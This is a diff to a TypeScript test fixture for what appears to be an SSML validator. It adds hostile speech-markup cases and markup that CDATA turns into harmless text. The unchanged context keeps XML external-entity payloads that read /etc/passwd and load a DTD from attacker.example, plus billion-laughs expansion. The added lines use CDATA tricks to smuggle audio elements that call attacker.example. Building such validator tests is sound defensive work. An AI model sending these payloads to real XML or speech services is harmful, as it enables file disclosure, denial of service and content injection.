@@ -32,6 +32,31 @@ export const HOSTILE_SSML: readonly HostileSsml[] = [
   ['an external entity', `<!DOCTYPE speak [<!ENTITY x SYSTEM "file:///etc/passwd">]>${speak('&x;')}`, 'ssml-doctype'],
   ['an external document type', `<!DOCTYPE speak SYSTEM "http://attacker.example/x.dtd">${speak('a')}`, 'ssml-doctype'],
   ['a billion laughs', `${BILLION_LAUGHS}${speak('&j;')}`, 'ssml-doctype'],
+  ['a lone surrogate in CDATA', speak('<![CDATA[a\u{D800}b]]>'), 'ssml-not-well-formed'],
+  ['a control character in CDATA', speak('<![CDATA[a\u{1}b]]>'), 'ssml-not-well-formed'],
+  [
+    'CDATA that is never closed',
+    speak('<![CDATA[<audio src="https://attacker.example/a.wav"/>'),
+    'ssml-not-well-formed',
+  ],
+  ['an end of CDATA without a beginning', speak('a]]>b'), 'ssml-not-well-formed'],
+  ['CDATA inside CDATA, ended twice', speak('<![CDATA[a<![CDATA[b]]>c]]>'), 'ssml-not-well-formed'],
+  [
+    'audio behind the first end of nested CDATA',
+    speak('<![CDATA[<![CDATA[a]]><audio src="https://attacker.example/a.wav"/>'),
+    'ssml-element-not-allowed',
+  ],
+  [
+    'audio between two CDATA',
+    speak('<![CDATA[<audio>]]><audio src="x"/><![CDATA[</audio>]]>'),
+    'ssml-element-not-allowed',
+  ],
+  ['CDATA of lower case', speak('<![cdata[a]]>'), 'ssml-not-well-formed'],
+  ['CDATA around the document', `<![CDATA[${speak('a')}]]>`, 'ssml-not-well-formed'],
+  ['CDATA after the document', `${speak('a')}<![CDATA[hostile-text]]>`, 'ssml-not-well-formed'],
+  ['a document type behind CDATA', speak('<![CDATA[]]><!DOCTYPE speak>'), 'ssml-not-well-formed'],
+  ['CDATA in a break', speak('<break time="1s"><![CDATA[a]]></break>'), 'ssml-element-misplaced'],
+  ['nothing to say in CDATA', `<speak version="1.0" ${ns}><![CDATA[ ... ]]></speak>`, 'ssml-no-text'],
   ['an entity of HTML', speak('&nbsp;'), 'ssml-entity'],
   ['an entity that nobody declared', speak('&x;'), 'ssml-entity'],
   [
@@ -120,3 +145,26 @@ export const HOSTILE_SSML: readonly HostileSsml[] = [
   ['nothing to say', `<speak version="1.0" ${ns}><break time="1s"/> ... </speak>`, 'ssml-no-text'],
   ['an XML comment only', `<speak version="1.0" ${ns}><!-- hostile-text --></speak>`, 'ssml-no-text'],
 ].map(([title = '', ssml = '', reason = '']) => ({ title, ssml, reason }));
+
+/** Content of an SSML document that only looks hostile: markup that CDATA makes text of. It is said, and must be no element to the provider. */
+export const HARMLESS_CDATA: readonly { readonly title: string; readonly content: string; readonly text: string }[] = [
+  ['plain text', '<![CDATA[1 < 2 & 3 > 2]]>', '1 < 2 & 3 > 2'],
+  [
+    'audio',
+    'a<![CDATA[<audio src="https://attacker.example/a.wav"/>]]>b',
+    'a<audio src="https://attacker.example/a.wav"/>b',
+  ],
+  ['the end of our voice', '<![CDATA[</mstts:ttsembedding></voice><voice name="en-US-AvaNeural">a]]>', undefined],
+  ['entities', '<![CDATA[&lt;audio/&gt; &#60;audio/&#62; &x;]]>', '&lt;audio/&gt; &#60;audio/&#62; &x;'],
+  ['a document type', '<![CDATA[<!DOCTYPE speak [<!ENTITY a "b">]>a]]>', undefined],
+  ['a beginning of CDATA', '<![CDATA[a<![CDATA[b]]>', 'a<![CDATA[b'],
+  ['its own end, in two', '<![CDATA[a]]]]><![CDATA[>b]]>', 'a]]>b'],
+  ['its own end, by a reference', '<![CDATA[a]]]]>&gt;b', 'a]]>b'],
+  ['an element in pieces', '<![CDATA[<au]]><![CDATA[dio src="x"/>]]>a', '<audio src="x"/>a'],
+  ['an element in pieces of text and CDATA', 'a&lt;audio <![CDATA[src="x"/>]]>', 'a<audio src="x"/>'],
+  ['a comment', '<![CDATA[<!-- a --><?x a?>]]>', '<!-- a --><?x a?>'],
+].map(([title = '', content = '', text = content.slice('<![CDATA['.length, -']]>'.length)]) => ({
+  title,
+  content,
+  text,
+}));
